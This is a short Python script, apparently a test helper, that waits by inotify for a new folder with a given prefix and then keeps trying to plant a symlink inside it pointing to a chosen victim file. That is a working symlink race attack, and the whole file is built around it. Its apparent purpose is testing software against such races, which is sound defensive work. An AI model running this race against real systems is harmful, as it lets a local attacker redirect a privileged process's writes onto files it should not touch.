# An attacker who waits for a folder: `plant-link.py PARENT PREFIX NAME VICTIM` says "ready", waits by inotify for a new
# folder PARENT/PREFIX*, and tries to make NAME in it a link to VICTIM for as long as stdin is open. Says "planted" once
# it could.
import ctypes
import os
import select
import struct
import sys

IN_CREATE = 0x100
parent, prefix, name, victim = sys.argv[1:5]
libc = ctypes.CDLL(None, use_errno=True)
watch = libc.inotify_init()
if libc.inotify_add_watch(watch, parent.encode(), IN_CREATE) < 0:
    sys.exit(f'cannot watch {parent}: {os.strerror(ctypes.get_errno())}')
print('ready', flush=True)


def closed():
    return bool(select.select([sys.stdin], [], [], 0)[0])


def new_folder():
    while True:
        ready = select.select([watch, sys.stdin], [], [])[0]
        if sys.stdin in ready:
            sys.exit()
        events = os.read(watch, 65536)
        while events:
            length = struct.unpack_from('iIII', events)[3]
            created = events[16:16 + length].rstrip(b'\0').decode()
            if created.startswith(prefix):
                return os.path.join(parent, created)
            events = events[16 + length:]


link = os.path.join(new_folder(), name)
while not closed():
    try:
        os.symlink(victim, link)
        print('planted', flush=True)
        break
    except OSError:
        pass
